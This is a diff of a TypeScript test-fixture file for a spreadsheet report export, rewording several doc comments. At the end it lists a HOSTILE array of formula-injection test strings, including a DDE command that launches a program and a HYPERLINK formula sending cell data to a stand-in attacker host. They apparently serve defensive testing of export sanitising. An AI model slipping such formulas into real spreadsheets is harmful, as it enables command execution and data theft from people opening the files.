@@ -23,7 +23,7 @@ export const COLUMNS: readonly ReportColumn[] = [
   column('Key', { onPaper: 'none' }),
 ];
 
-/** A row of `COLUMNS`, as far as it is given. */
+/** A row of `COLUMNS`, with the given values. */
 export const rowOf = (name: string, ...rest: Row): Row => [
   name,
   ...rest,
@@ -40,7 +40,7 @@ export const sheetOf = (rows: readonly Row[], name = 'Q4 2026'): TableSheet => (
   pages: pagesOf(rows),
 });
 
-/** A report of one sheet, or of the given ones. */
+/** A report of one sheet, or of the given sheets. */
 export const tableOf = (rows: readonly Row[], values: Partial<TableFile> = {}): TableFile => ({
   title: 'Goal Compliance List',
   organisation: 'Globex',
@@ -58,7 +58,7 @@ export const tableOf = (rows: readonly Row[], values: Partial<TableFile> = {}): 
   ...values,
 });
 
-/** Endless pages, and what has become of them. */
+/** Endless pages, and a record of their state. */
 export function endlessPages(page: (index: number) => readonly Row[], last = Infinity) {
   const seen = { read: 0, isEnded: false };
   const ended = Promise.withResolvers<void>();
@@ -80,7 +80,7 @@ export async function bytesOf(content: FileContent | Promise<FileContent>): Prom
   return Buffer.concat(pieces);
 }
 
-/** Texts that programs take for something else. */
+/** Texts that programs misinterpret. */
 export const HOSTILE = [
   '=cmd|"/c calc"!A1',
   '=HYPERLINK("https://evil.test?"&A1,"Click")',
